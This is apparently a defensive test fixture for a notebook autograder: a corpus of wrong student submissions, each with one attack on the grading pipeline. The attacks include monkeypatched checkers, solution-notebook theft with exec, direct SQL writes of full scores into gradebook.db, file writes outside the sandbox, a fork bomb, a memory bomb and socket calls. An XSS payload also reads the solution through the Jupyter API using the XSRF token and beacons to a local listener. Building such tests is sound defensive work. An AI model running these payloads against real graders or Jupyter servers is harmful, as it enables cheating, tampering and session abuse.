'''The adversarial corpus: wrong or partial submissions, each combined with ONE attack on the grading pipeline,
and correct submissions written in unusual but legitimate ways (tests/adversarial/checks.py grades them).

Each ``Submission`` starts from the lab's solution answers (grading/sample_class/make_sample_class.py:
``solution_answers``) put into the released notebook, then overrides some answer cells (``answers``: grade_id ->
code) and optionally edits the notebook's structure (``edit``: a name in ``EDITS``) and, once it is written, the
submission's files (``files``: a name in ``FILE_EDITS``: links, FIFOs, huge files). ``zero`` lists the exercises
that must earn nothing (the wrong part; an attack never turns it into points; ``"*"``: all); every other exercise
must keep its full automatic points. ``flags`` must all be in the student's flags; ``forbidden_flags`` must not
be. ``refused``: the intake must refuse the submission (nothing graded, flag ``failed_autograde``). ``partner``
goes into the PARTNER cell, ``timestamp`` into timestamp.txt; ``base="released"`` hands in the released notebook
(blank) instead of the solution's answers.

An attack is written so that, if it WORKED, the wrong answer would turn into a right one (or the grade would
change): it exec's the solution it found, answers correctly when the hidden seed leaks, writes scores into the
gradebook it reached, and so on. Placeholders filled in by the test: @WORK@ (the course directory, an absolute
path), @REPO@, @TOKEN@ (unique per run: names of files that must not appear), @PORT@ (a TCP listener of the test's
on 127.0.0.1 that must see no connection), @LAB@, @NB@ (the notebook's file name), @ME@ (the student id).
'''
from __future__ import annotations

from dataclasses import dataclass, field

LAB1, LAB2, LAB3 = "lab01-gradient-descent", "lab02-backpropagation", "lab03-optimizers"


@dataclass(frozen=True)
class Submission:
    student: str
    lab: str
    attack: str                      # what it tries (one attack)
    wrong: str                       # what is wrong in the answer ("" for a correct submission)
    answers: dict = field(default_factory=dict)   # grade_id -> code (the rest: the solution's answer)
    zero: tuple = ()                 # exercises that must earn 0
    flags: frozenset = frozenset()   # must be among the student's flags
    forbidden_flags: frozenset = frozenset()
    edit: str | None = None          # a structural edit of the notebook (EDITS in the test)
    files: str | None = None         # an edit of the submission's files once written (FILE_EDITS in the test)
    refused: bool = False            # the intake refuses it: nothing is graded
    partner: str = ""                # PARTNER = "..."
    timestamp: str = "2026-10-05 10:00:00 UTC"
    base: str = "solution"           # "released": the blank notebook, answers as released


# Files an attack tries to create outside its sandbox; none may exist after grading (checked for every lab).
FORBIDDEN_FILES = [
    "@WORK@/pwned_@TOKEN@.txt",                # the course directory
    "@WORK@/submitted/@ME@/@LAB@/pwned_@TOKEN@.txt",   # next to the submitted notebook
    "@REPO@/pwned_@TOKEN@",
    "@REPO@/lablib/pwned_@TOKEN@.py",          # the library every later kernel imports
    "/tmp/pwned_@TOKEN@",
    "/work/pwned_@TOKEN@",
    "/root/pwned_@TOKEN@",
]

# ---------------------------------------------------------------------------------------------------------
# Wrong answers (the exercise they belong to is the key)

F_2X = "def f(x):\n    return 2 * x\n"
DF_SQ = "def df(x):\n    return x ** 2\n"
GD_OFF_BY_ONE = ("def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    xs = [np.asarray(x0, dtype=float)]\n"
                 "    for _ in range(n_steps - 1):\n        g = grad(xs[-1])\n"
                 "        if tol is not None and np.linalg.norm(g) < tol:\n            break\n"
                 "        xs.append(xs[-1] - lr * g)\n    return np.array(xs)\n")
GD_ASCENT = GD_OFF_BY_ONE.replace("n_steps - 1", "n_steps").replace("xs[-1] - lr", "xs[-1] + lr")

DENSE_FORWARD_NO_BIAS = "def dense_forward(x, W, b):\n    return x @ W, (x, W)\n"
DENSE_BACKWARD_MEAN = ("def dense_backward(dout, cache):\n    x, W = cache\n    n = x.shape[0]\n"
                       "    return dout @ W.T, x.T @ dout / n, dout.sum(axis=0) / n\n")
SOFTMAX_NO_MEAN_GRAD = ("def softmax_cross_entropy(logits, y):\n    n = logits.shape[0]\n"
                        "    shifted = logits - logits.max(axis=1, keepdims=True)\n"
                        "    log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))\n"
                        "    loss = -log_p[np.arange(n), y].mean()\n    dlogits = np.exp(log_p)\n"
                        "    dlogits[np.arange(n), y] -= 1.0\n    return loss, dlogits\n")      # gradient not / n
NUMGRAD_FORWARD_DIFF = ("def numerical_gradient(f, x, h=1e-5):\n    grad = np.zeros_like(x)\n    fx = f(x)\n"
                        "    for i in np.ndindex(x.shape):\n        old = x[i]\n        x[i] = old + h\n"
                        "        grad[i] = (f(x) - fx) / h\n        x[i] = old\n    return grad\n")
GRADIENTS_222_SIGN = ("def gradients_222(w):\n    outputs = forward_222(w)\n"
                      "    h1, h2, o1, o2 = outputs['out_h1'], outputs['out_h2'], outputs['out_o1'], outputs['out_o2']\n"
                      "    d1, d2 = (T1 - o1) * o1 * (1 - o1), (T2 - o2) * o2 * (1 - o2)\n"     # sign flipped
                      "    e1 = (d1 * w['w5'] + d2 * w['w7']) * h1 * (1 - h1)\n"
                      "    e2 = (d1 * w['w6'] + d2 * w['w8']) * h2 * (1 - h2)\n"
                      "    return {'w1': e1 * I1, 'w2': e1 * I2, 'w3': e2 * I1, 'w4': e2 * I2,\n"
                      "            'w5': d1 * h1, 'w6': d1 * h2, 'w7': d2 * h1, 'w8': d2 * h2}\n")

MINIBATCHES_NO_SHUFFLE = ("def minibatches(X, y, batch_size, rng=None, shuffle=True):\n    n = X.shape[0]\n"
                          "    for start in range(0, n, batch_size):\n"
                          "        yield X[start:start + batch_size], y[start:start + batch_size]\n")
MOMENTUM_EMA = ("def sgd_momentum_step(x, grad, state, lr, momentum=0.9):\n"
                "    g = momentum * state.get('g', 0.0) + (1 - momentum) * np.asarray(grad, dtype=float)\n"
                "    return x - lr * g, {'g': g}\n")
ADAGRAD_NO_SQRT = ("def adagrad_norm_step(x, grad, state, lr, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
                   "    S = state.get('S', 0.0) + np.sum(grad ** 2)\n    return x - lr / (eps + S) * grad, {'S': S}\n")
RMSPROP_SWAPPED = ("def rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
                   "    s = (1 - rho) * state.get('s', 0.0) + rho * grad ** 2\n"
                   "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")
ADAM_NO_BIAS = ("def adam_step(x, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8):\n"
                "    grad = np.asarray(grad, dtype=float)\n"
                "    m = beta1 * state.get('m', 0.0) + (1 - beta1) * grad\n"
                "    v = beta2 * state.get('v', 0.0) + (1 - beta2) * grad ** 2\n"
                "    return x - lr * m / (np.sqrt(v) + eps), {'m': m, 'v': v}\n")

# ---------------------------------------------------------------------------------------------------------
# Attack snippets that are used more than once

FIND_SOLUTION = '''
import glob, json, os, time


def _find_solution(needle):
    """The source notebook's solution cell defining `needle`: known paths, then globs up from the cwd."""
    paths = ["../../../solutions/@LAB@/@NB@", "@REPO@/solutions/@LAB@/@NB@", "@WORK@/solutions/@LAB@/@NB@",
             "@REPO@/grading/sample_class/../../solutions/@LAB@/@NB@"]
    here = os.path.abspath(os.getcwd())
    while True:
        for depth in range(1, 4):
            paths += glob.glob(os.path.join(here, *["*"] * depth, "*.ipynb"))
        if os.path.dirname(here) == here:
            break
        here = os.path.dirname(here)
    deadline = time.monotonic() + 2.0
    for top in ("/work", "/srv", "/opt", "/var", "/data"):
        for root, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                break
            paths += [os.path.join(root, name) for name in files if name.endswith(".ipynb")]
    for path in paths:
        try:
            with open(path) as fh:
                cells = json.load(fh)["cells"]
        except Exception:
            continue
        for cell in cells:
            src = "".join(cell.get("source", ""))
            if "### BEGIN SOLUTION" in src and f"def {needle}(" in src:
                return src
    return None
'''

# ---------------------------------------------------------------------------------------------------------
# The corpus

SUBMISSIONS = [
    # ---------------- lab01: f (1+1), df (1+1), gradient_descent (2+2)
    Submission("a01_shadow_abs", LAB1, "shadows the builtin abs (abs = lambda v: 0)", "f returns 2x",
               {"f": "abs = lambda v: 0\n\n\n" + F_2X}, zero=("f",), flags=frozenset({"tamper_suspect"})),
    Submission("a02_patch_np_abs", LAB1, "replaces numpy's np.abs (the check compares with it) by zeros",
               "f returns 2x",
               {"f": F_2X + "\n\nnp.abs = lambda a, *args, **kwargs: np.zeros_like(np.asarray(a, dtype=float))\n"},
               zero=("f",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
    Submission("a03_redefine_check", LAB1, "redefines check() in an answer cell", "df returns x**2",
               {"df": DF_SQ + "\n\ndef check(*args, **kwargs):\n    print('✓ all checks passed')\n"},
               zero=("df",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
    Submission("a04_input_transformer", LAB1, "IPython input transformer that blanks every later cell",
               "f returns 2x",
               {"f": F_2X + "\n\nget_ipython().input_transformers_post.append(lambda lines: [])\n"},
               zero=("f",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
    Submission("a05_events_hook", LAB1, "pre_run_cell hook that swaps check for a no-op before every cell",
               "df returns x**2",
               {"df": DF_SQ + "\n\nget_ipython().events.register('pre_run_cell', lambda *a: "
                              "get_ipython().user_ns.update(check=lambda *a, **k: print('✓')))\n"},
               zero=("df",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
    Submission("a06_showtraceback", LAB1, "get_ipython().showtraceback = no-op (errors leave no output)",
               "gradient ascent",
               {"gradient_descent": GD_ASCENT + "\n\nget_ipython().showtraceback = lambda *a, **k: None\n"},
               # the kernel still reports the error (the pass is not forged), so no unconfirmed_pass is due
               zero=("gradient_descent",), flags=frozenset({"tamper_suspect"})),
    Submission("a07_read_source", LAB1, "reads the source notebook (relative, absolute, globs up the tree) "
               "and exec's its solution", "f returns 2x",
               {"f": FIND_SOLUTION + "\n_LEAK = _find_solution('f')\n\n\ndef f(x):\n    if _LEAK:\n"
                     "        ns = {}\n        exec(_LEAK, ns)\n        return ns['f'](x)\n    return 2 * x\n"},
               zero=("f",), flags=frozenset({"tamper_suspect"})),
    Submission("a08_gradebook", LAB1, "finds gradebook.db (walking up from the cwd, and by the course's "
               "absolute path) and writes scores into it with sqlite3", "df returns x**2",
               {"df": ("import os, sqlite3\n\n\ndef _pwn_gradebook():\n    paths, here = ['@WORK@/gradebook.db'], os.getcwd()\n"
                       "    while True:\n        paths += [os.path.join(here, 'gradebook.db'), "
                       "os.path.join(here, 'grading', 'gradebook.db')]\n"
                       "        if os.path.dirname(here) == here:\n            break\n        here = os.path.dirname(here)\n"
                       "    hits = []\n    for path in paths:\n        if os.path.exists(path):\n            try:\n"
                       "                con = sqlite3.connect(path)\n"
                       "                con.execute('UPDATE grade SET manual_score = 100, auto_score = 100')\n"
                       "                con.commit()\n                hits.append(path)\n            except Exception:\n"
                       "                pass\n    return hits\n\n\n_PWNED = _pwn_gradebook()\n\n\n"
                       "def df(x):\n    return 2.0 * x if _PWNED else x ** 2\n")},
               zero=("df",), flags=frozenset({"tamper_suspect"})),
    Submission("a09_delete_tests", LAB1, "deletes f's public and hidden test cells", "f returns 2x",
               {"f": F_2X}, zero=("f",), flags=frozenset({"restored_cells"}), edit="delete_f_tests"),
    Submission("a10_swap_ids", LAB1, "swaps the grade_ids of the f and df answer cells", "f returns 2x",
               {"f": F_2X}, zero=("f",), edit="swap_f_df_ids"),
    Submission("a11_sigint_loop", LAB1, "ignores SIGINT and loops forever inside the function",
               "gradient_descent never returns",
               {"gradient_descent": ("import signal\n\n\ndef gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
                                     "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n"
                                     "        pass\n")},
               zero=("gradient_descent",), flags=frozenset({"timeout", "tamper_suspect"})),
    Submission("a12_env_seed", LAB1, "reads LABLIB_HIDDEN_SEED from the environment (answers right if present)",
               "f returns 2x unless the seed leaks",
               {"f": ("import os\n\n_SEED = os.environ.get('LABLIB_HIDDEN_SEED')\nprint('seed:', _SEED)\n\n\n"
                      "def f(x):\n    return x * x if _SEED else 2 * x\n")},
               zero=("f",), flags=frozenset({"tamper_suspect"})),
    Submission("a13_reference_landscapes", LAB1, "calls lablib's reference (lablib.landscapes.square)",
               "f not implemented: lablib's square",
               {"f": "from lablib.landscapes import square\n\n\ndef f(x):\n    return square(x)\n"}, zero=("f",),
               flags=frozenset({"tamper_suspect"})),
    Submission("a14_eq_object", LAB1, "returns an object whose __eq__ is always True", "no iterates computed",
               {"gradient_descent": ("class Anything:\n    def __eq__(self, other):\n        return True\n\n"
                                     "    def __ne__(self, other):\n        return False\n\n"
                                     "    __hash__ = object.__hash__\n\n\n"
                                     "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    return Anything()\n")},
               zero=("gradient_descent",)),
    Submission("c01_loops_helpers_plots", LAB1, "(correct) pure-Python loops, helpers, print, warnings.warn, "
               "a matplotlib plot in the answer cell", "",
               {"f": ("def _times(a, b):\n    return a * b\n\n\ndef f(x):\n    print('f called')\n"
                      "    return _times(x, x)\n"),
                "df": "def df(x):\n    total = 0\n    for _ in range(2):\n        total = total + x\n    return total\n",
                "gradient_descent": (
                    "import math\nimport warnings\n\nimport matplotlib.pyplot as plt\n\n\ndef _norm(g):\n"
                    "    return math.sqrt(sum(float(v) ** 2 for v in np.ravel(g)))\n\n\n"
                    "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n    x = np.array(x0, dtype=float)\n"
                    "    path = [x]\n    step = 0\n    while step < n_steps:\n        g = grad(x)\n"
                    "        if tol is not None and _norm(g) < tol:\n            break\n"
                    "        x = x - lr * g\n        path.append(x)\n        step += 1\n"
                    "    if lr > 0.5:\n        warnings.warn('a large learning rate')\n    return np.array(path)\n\n\n"
                    "_path = gradient_descent(lambda v: 2 * v, 1.0, 0.1, 20)\nfig, ax = plt.subplots()\n"
                    "ax.plot(_path, marker='o')\nax.set_title('my path')\nplt.show()\n")},
               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
    Submission("c02_recursion", LAB1, "(correct) recursive gradient descent with helpers, np.square, np.multiply",
               "",
               {"f": "def f(x):\n    return np.square(x)\n",
                "df": "def df(x):\n    return np.multiply(2, x)\n",
                "gradient_descent": (
                    "def _small(g, tol):\n    return tol is not None and np.sqrt(np.sum(np.square(g))) < tol\n\n\n"
                    "def _descend(grad, x, lr, left, tol):\n    if left == 0 or _small(grad(x), tol):\n        return [x]\n"
                    "    return [x] + _descend(grad, x - lr * grad(x), lr, left - 1, tol)\n\n\n"
                    "def gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
                    "    return np.array(_descend(grad, np.asarray(x0, dtype=float), lr, n_steps, tol))\n")},
               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),

    # ---------------- lab02: forward_222 1+1, gradients_222 2+2, dense_forward 1+1, dense_backward 1+1,
    #                         softmax_cross_entropy 2+2, numerical_gradient 1+1
    Submission("b01_shadow_len_isinstance", LAB2, "shadows the builtins len and isinstance",
               "dense_backward divides by the batch size",
               {"dense_backward": "len = lambda v: 1\nisinstance = lambda *a, **k: True\n\n\n" + DENSE_BACKWARD_MEAN},
               zero=("dense_backward",), flags=frozenset({"tamper_suspect"})),
    Submission("b02_patch_isclose_allclose", LAB2, "math.isclose, np.allclose, np.testing.assert_allclose "
               "replaced by always-agree", "softmax gradient not divided by N",
               {"softmax_cross_entropy": SOFTMAX_NO_MEAN_GRAD + (
                   "\n\nimport math\nmath.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                   "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)\n"
                   "np.testing.assert_allclose = lambda *a, **k: None\n")},
               zero=("softmax_cross_entropy",), flags=frozenset({"tamper_suspect"})),
    Submission("b03_patch_check_module", LAB2, "import lablib.grading as g; g.check = print-a-tick",
               "numerical_gradient uses forward differences",
               {"numerical_gradient": NUMGRAD_FORWARD_DIFF + (
                   "\n\nimport lablib.grading as g\nimport lablib.grading.engine as e\n"
                   "g.check = e.check = lambda *a, **k: print('✓')\n")},
               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
    Submission("b04_patch_compare", LAB2, "lablib.grading.engine.compare patched to return None",
               "dense_forward forgets the bias",
               {"dense_forward": DENSE_FORWARD_NO_BIAS + (
                   "\n\nimport lablib.grading.engine as _engine\n_engine.compare = lambda *a, **k: None\n"
                   "_engine.same = lambda *a, **k: True\n")},
               zero=("dense_forward",), flags=frozenset({"tamper_suspect", "unconfirmed_pass"})),
    Submission("b05_checkfailure", LAB2, "CheckFailure rebound (module and notebook) to a harmless class",
               "gradients_222 has its sign flipped",
               {"gradients_222": GRADIENTS_222_SIGN + (
                   "\n\nimport lablib.grading as _g\nimport lablib.grading.engine as _e\n"
                   "class CheckFailure(Exception):\n    pass\n\n\n_g.CheckFailure = _e.CheckFailure = CheckFailure\n")},
               zero=("gradients_222",), flags=frozenset({"tamper_suspect"})),
    Submission("b06_excepthook_xmode", LAB2, "sys.excepthook silenced and %xmode Minimal",
               "dense_backward divides by the batch size",
               {"dense_backward": DENSE_BACKWARD_MEAN + (
                   "\n\nimport sys\nsys.excepthook = lambda *a: None\n%xmode Minimal\n")},
               zero=("dense_backward",), flags=frozenset({"tamper_suspect"})),
    Submission("b07_retag_rename", LAB2, "renames the public test cell's grade_id (and blanks it), re-tags the "
               "hidden one as markdown", "softmax gradient not divided by N",
               {"softmax_cross_entropy": SOFTMAX_NO_MEAN_GRAD}, zero=("softmax_cross_entropy",),
               flags=frozenset({"restored_cells"}), edit="retag_softmax_tests"),
    Submission("b08_sys_exit_in_function", LAB2, "sys.exit() inside the function", "numerical_gradient exits",
               {"numerical_gradient": "import sys\n\n\ndef numerical_gradient(f, x, h=1e-5):\n    sys.exit(0)\n"},
               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
    # (not in dense_forward: dense_backward's check builds its cache with the student's own dense_forward)
    Submission("b09_os_exit_in_function", LAB2, "os._exit(0) inside the function",
               "softmax_cross_entropy kills its process",
               {"softmax_cross_entropy": "import os\n\n\ndef softmax_cross_entropy(logits, y):\n    os._exit(0)\n"},
               zero=("softmax_cross_entropy",), flags=frozenset({"tamper_suspect", "sandbox_died", "kernel_died"})),
    Submission("b10_huge_output", LAB2, "prints 50 MB in the answer cell", "gradients_222 has its sign flipped",
               {"gradients_222": GRADIENTS_222_SIGN + "\n\nprint('x' * 50_000_000)\n"}, zero=("gradients_222",),
               flags=frozenset({"huge_output"})),
    Submission("b11_write_files", LAB2, "writes files next to the notebook, into the course dir (overwriting an "
               "honest student's submission), the repository, /tmp, /work, /root and home",
               "numerical_gradient uses forward differences",
               {"numerical_gradient": (
                   "import os\n\nfor _target in ['pwned_local.txt', os.path.expanduser('~/pwned_home.txt'),\n"
                   "                '@WORK@/pwned_@TOKEN@.txt', '@WORK@/submitted/@ME@/@LAB@/pwned_@TOKEN@.txt',\n"
                   "                '@WORK@/submitted/zzz_honest/@LAB@/@NB@', '@WORK@/submitted/aaa_honest/@LAB@/@NB@',\n"
                   "                '@REPO@/pwned_@TOKEN@', '@REPO@/lablib/pwned_@TOKEN@.py',\n"
                   "                '/tmp/pwned_@TOKEN@', '/work/pwned_@TOKEN@', '/root/pwned_@TOKEN@']:\n"
                   "    try:\n        with open(_target, 'w') as _fh:\n            _fh.write('{}')\n"
                   "    except Exception as _exc:\n        print(_target, type(_exc).__name__)\n\n\n"
                   + NUMGRAD_FORWARD_DIFF)},
               zero=("numerical_gradient",), flags=frozenset({"tamper_suspect"})),
    Submission("b12_ndarray_subclass", LAB2, "returns an ndarray subclass whose __sub__/__abs__/__eq__ lie",
               "dense_forward returns zeros",
               {"dense_forward": (
                   "class Agreeable(np.ndarray):\n    def __sub__(self, other):\n        return np.zeros(self.shape)\n\n"
                   "    __rsub__ = __sub__\n\n    def __abs__(self):\n        return np.zeros(self.shape)\n\n"
                   "    def __eq__(self, other):\n        return np.ones(self.shape, dtype=bool)\n\n"
                   "    __hash__ = None\n\n\n"
                   "def dense_forward(x, W, b):\n    out = np.zeros((x.shape[0], W.shape[1])).view(Agreeable)\n"
                   "    return out, (x, W)\n")},
               zero=("dense_forward",)),
    Submission("c03_einsum_loops", LAB2, "(correct) einsum, explicit loops, helpers, print, warnings.warn", "",
               {"dense_forward": ("def dense_forward(x, W, b):\n    print('forward', x.shape, W.shape)\n"
                                  "    return np.einsum('nd,dm->nm', x, W) + b, (x, W)\n"),
                "dense_backward": ("def dense_backward(dout, cache):\n    x, W = cache\n    db = np.zeros(dout.shape[1])\n"
                                   "    for row in dout:\n        db = db + row\n"
                                   "    return np.einsum('nm,dm->nd', dout, W), np.einsum('nd,nm->dm', x, dout), db\n"),
                "softmax_cross_entropy": (
                    "import warnings\n\n\ndef _log_softmax_row(z):\n    z = z - z.max()\n"
                    "    return z - np.log(np.sum(np.exp(z)))\n\n\ndef softmax_cross_entropy(logits, y):\n"
                    "    n = logits.shape[0]\n    rows = [_log_softmax_row(logits[i]) for i in range(n)]\n"
                    "    loss = -sum(rows[i][y[i]] for i in range(n)) / n\n"
                    "    grad = np.array([np.exp(r) for r in rows]).reshape(logits.shape)\n"
                    "    for i in range(n):\n        grad[i, y[i]] -= 1.0\n"
                    "    if n > 1000:\n        warnings.warn('a large batch')\n    return loss, grad / n\n")},
               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),

    # ---------------- lab03: minibatches 2+2, sgd_momentum_step 2+2, adagrad_norm_step 2+2, rmsprop_step 2+2,
    #                         adam_step 2+2
    Submission("d01_sys_exit_in_cell", LAB3, "sys.exit() at the end of an answer cell",
               "momentum as an EMA (1 - momentum)",
               {"sgd_momentum_step": MOMENTUM_EMA + "\n\nimport sys\nsys.exit('done')\n"},
               zero=("sgd_momentum_step",), flags=frozenset({"tamper_suspect"})),
    Submission("d02_os_exit_in_cell", LAB3, "os._exit(0) at the end of an answer cell", "rho and 1 - rho swapped",
               {"rmsprop_step": RMSPROP_SWAPPED + "\n\nimport os\nos._exit(0)\n"},
               zero=("rmsprop_step",), flags=frozenset({"tamper_suspect", "kernel_died"})),
    Submission("d03_fork_bomb", LAB3, "fork bomb inside the function (bounded: 10000 forks in a try)",
               "Adam without bias correction",
               {"adam_step": ADAM_NO_BIAS.replace(
                   "    grad = np.asarray(grad, dtype=float)\n",
                   "    grad = np.asarray(grad, dtype=float)\n    import os\n    try:\n        for _ in range(10000):\n"
                   "            os.fork()\n    except OSError:\n        pass\n")},
               zero=("adam_step",), flags=frozenset({"tamper_suspect"})),
    Submission("d04_memory_bomb", LAB3, "allocates up to 8 GiB in 512 MiB chunks (in a try) in the answer cell",
               "AdaGrad-Norm without the square root",
               {"adagrad_norm_step": ("_hog = []\ntry:\n    for _ in range(16):\n"
                                      "        _hog.append(np.ones((512 << 20) // 8))\nexcept MemoryError:\n"
                                      "    pass\nprint('allocated', len(_hog), 'chunks')\n_hog.clear()\n\n\n"
                                      + ADAGRAD_NO_SQRT)},
               zero=("adagrad_norm_step",)),
    Submission("d05_network", LAB3, "opens sockets to 127.0.0.1 (a listener of the test's) and pypi.org:443",
               "rho and 1 - rho swapped (right only if the network answered)",
               {"rmsprop_step": (
                   "import socket\n\n\ndef _reach():\n"
                   "    for host, port in (('127.0.0.1', @PORT@), ('pypi.org', 443)):\n        try:\n"
                   "            with socket.create_connection((host, port), timeout=1) as s:\n"
                   "                s.sendall(b'@ME@')\n            return True\n        except OSError:\n"
                   "            pass\n    return False\n\n\n_NET = _reach()\n\n\n"
                   "def rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n    grad = np.asarray(grad, dtype=float)\n"
                   "    if _NET:\n        s = rho * state.get('s', 0.0) + (1 - rho) * grad ** 2\n    else:\n"
                   "        s = (1 - rho) * state.get('s', 0.0) + rho * grad ** 2\n"
                   "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")},
               zero=("rmsprop_step",), flags=frozenset({"tamper_suspect"})),
    Submission("d06_reference_optim", LAB3, "calls lablib.optim.adam_step (the reference) instead of implementing",
               "adam_step not implemented: lablib's",
               {"adam_step": ("from lablib import optim as _optim\n\n\n"
                              "def adam_step(x, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8):\n"
                              "    mine = {k: (np.array(v, copy=True) if k != 't' else v) for k, v in state.items()}\n"
                              "    new_x = np.array(x, dtype=float, copy=True)\n"
                              "    _optim.adam_step([new_x], [np.asarray(grad, dtype=float)], mine, lr=lr, beta1=beta1,\n"
                              "                     beta2=beta2, eps=eps)\n    return new_x, mine\n")},
               zero=("adam_step",), flags=frozenset({"tamper_suspect"})),
    Submission("d07_metadata_points", LAB3, "edits metadata: test points 100, hidden test not graded, the answer "
               "cell graded with 50 points, locked flags off", "minibatches never shuffles",
               {"minibatches": MINIBATCHES_NO_SHUFFLE}, zero=("minibatches",), edit="inflate_minibatches_points",
               flags=frozenset({"restored_cells"})),
    Submission("d08_glob_solutions", LAB3, "globs for *.ipynb up the tree and across /work and exec's the "
               "solution it finds", "momentum as an EMA (right only with the leaked solution)",
               {"sgd_momentum_step": FIND_SOLUTION + (
                   "\n_LEAK = _find_solution('sgd_momentum_step')\n\n\n"
                   "def sgd_momentum_step(x, grad, state, lr, momentum=0.9):\n    if _LEAK:\n        ns = {'np': np}\n"
                   "        exec(_LEAK, ns)\n        return ns['sgd_momentum_step'](x, grad, state, lr, momentum)\n"
                   "    g = momentum * state.get('g', 0.0) + (1 - momentum) * np.asarray(grad, dtype=float)\n"
                   "    return x - lr * g, {'g': g}\n")},
               zero=("sgd_momentum_step",), flags=frozenset({"tamper_suspect"})),
    Submission("c04_loops_prints_warns", LAB3, "(correct) while loops, pure-Python sums, helpers, print, "
               "warnings.warn", "",
               {"minibatches": ("def minibatches(X, y, batch_size, rng=None, shuffle=True):\n"
                                "    order = list(rng.permutation(len(X))) if shuffle else list(range(len(X)))\n"
                                "    start = 0\n    while start < len(order):\n"
                                "        rows = np.array(order[start:start + batch_size], dtype=int)\n"
                                "        yield X[rows], y[rows]\n        start += batch_size\n"),
                "adagrad_norm_step": ("import math\n\n\ndef _squared_norm(g):\n    total = 0.0\n"
                                      "    for v in np.ravel(g):\n        total += float(v) * float(v)\n    return total\n\n\n"
                                      "def adagrad_norm_step(x, grad, state, lr, eps=1e-8):\n"
                                      "    S = state.get('S', 0.0) + _squared_norm(grad)\n"
                                      "    print('S =', S)\n"
                                      "    return x - lr / math.sqrt(eps + S) * np.asarray(grad, dtype=float), {'S': S}\n"),
                "rmsprop_step": ("import warnings\n\n\ndef rmsprop_step(x, grad, state, lr, rho=0.9, eps=1e-8):\n"
                                 "    if lr > 0.1:\n        warnings.warn('lr is large for RMSprop')\n"
                                 "    grad = np.asarray(grad, dtype=float)\n"
                                 "    s = rho * state.get('s', 0.0) + (1 - rho) * grad * grad\n"
                                 "    return x - lr * grad / (np.sqrt(s) + eps), {'s': s}\n")},
               forbidden_flags=frozenset({"unconfirmed_pass", "kernel_disagrees", "timeout"})),
]

HONEST = ("aaa_honest", "zzz_honest")   # the solution's answers, in every lab's course run: always full marks

# =========================================================================================================
# XSS: student HTML/JS must never run in a page the kit produces or serves (issue 11, breach 1). Each submission
# puts one class of payload where formgrader (the instructor's session) or the feedback HTML (the student's and,
# through the pair rule, the partner's) shows it; tests/adversarial/checks.py opens both in Chromium. If a
# payload RAN, it would leave a marker in window.__xss, read the solution through the Jupyter contents API and
# write it into the course directory (pwned_@TOKEN@_<student>.txt), open a dialog, load a resource from the
# test's listener on 127.0.0.1:@PORT@ and navigate away to it.

XSS_JS = ('(async()=>{window.__xss=(window.__xss||[]).concat(["@ME@"]);'
          'try{top.__xss=(top.__xss||[]).concat(["@ME@"])}catch(e){}'
          'var m=document.cookie.match(/_xsrf=([^;]+)/),x=m?m[1]:"",s="";'
          'try{s=await (await fetch("/api/contents/solutions/@LAB@/@NB@")).text()}catch(e){}'
          'try{await fetch("/api/contents/pwned_@TOKEN@_@ME@.txt",{method:"PUT",headers:{"X-XSRFToken":x,'
          '"Content-Type":"application/json"},body:JSON.stringify({type:"file",format:"text",content:s||"x"})})'
          '}catch(e){}'
          'try{new Image().src="http://127.0.0.1:@PORT@/img-@ME@"}catch(e){}'
          'alert("@ME@");location.href="http://127.0.0.1:@PORT@/nav-@ME@"})()')
XSS_ATTR = XSS_JS.replace("&", "&amp;").replace('"', "&quot;")        # inside a double-quoted HTML attribute
XSS_URL = "javascript:" + XSS_JS.replace("%", "%25").replace(" ", "%20")
XSS_DOC = "<script>" + XSS_JS + "</script>"                           # an HTML document that runs it
XSS_DATA_URL = "data:text/html," + "".join(c if c.isalnum() else f"%{ord(c):02X}" for c in XSS_DOC)
BEACON = "http://127.0.0.1:@PORT@/beacon-@ME@"                        # any request there means the page loaded it
IMG_ONERROR = '<img src=x onerror="' + XSS_ATTR + '">'
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + XSS_ATTR + '"><script>' + XSS_JS + '</script></svg>'


def _written_answer(markdown: str) -> str:
    """A written answer that looks honest around the payload, with what must still render: an equation, a table."""
    return ("With $\\eta = 1$ the factor is $1 - 2\\eta = -1$, so $x_t = (-1)^t x_0$ oscillates.\n\n"
            "$$x_{t+1} = (1 - 2\\eta)\\, x_t$$\n\n| $\\eta$ | behaviour |\n|:--|:--|\n| 1 | oscillates |\n"
            "| 1000 | diverges |\n\n" + markdown + "\n")


def _display(bundle: dict, metadata: dict | None = None) -> str:
    """An answer-cell line that displays a raw MIME bundle (what IPython's display(..., raw=True) sends)."""
    return f"\ndisplay({bundle!r}, raw=True, metadata={metadata or {}!r})\n"


PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

XSS_SUBMISSIONS = [
    # ---- markdown answers (the written Discussion answer, graded by hand in formgrader)
